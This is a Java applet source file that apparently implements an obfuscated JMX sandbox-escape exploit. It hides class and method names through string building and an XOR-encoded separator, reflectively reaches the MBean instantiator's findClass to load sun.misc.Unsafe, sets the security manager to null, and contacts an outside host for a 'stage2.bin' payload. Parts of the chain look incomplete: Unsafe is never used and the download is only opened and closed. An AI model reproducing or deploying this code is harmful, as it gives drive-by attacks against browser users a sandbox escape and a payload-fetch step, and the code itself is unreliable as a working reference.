import java.applet.Applet;

public class JmxLoaderY extends Applet {
    private static final String SERVER = "com.sun.jmx." + "mbeanserver." + "JmxMBeanServer";
    private static final String GRAB = new StringBuilder("getMBean").append("Instantiator").toString();
    private static final String FIND = new String(new char[]{'f', 'i', 'n', 'd', 'C', 'l', 'a', 's', 's'});
    private static final char SEP = (char) (76 ^ 98);

    public void init() {
        try {
            Class<?> serverClass = Class.forName(SERVER);
            Object server = serverClass.getMethod("newMBeanServer", String.class, javax.management.MBeanServer.class, javax.management.MBeanServerDelegate.class)
                    .invoke(null, "", null, null);
            Object instantiator = serverClass.getMethod(GRAB).invoke(server);
            java.lang.reflect.Method find = instantiator.getClass().getMethod(FIND, String.class, ClassLoader.class);
            find.setAccessible(true);
            Class<?> lookup = (Class<?>) find.invoke(instantiator, "sun" + SEP + "misc" + SEP + "Unsafe", null);
            System.setSecurityManager(null);
            String url = "http://198.51.100" + String.valueOf('.') + "23/stage2.bin";
            new java.net.URL(url).openStream().close();
        } catch (Throwable ignored) {
        }
    }
}
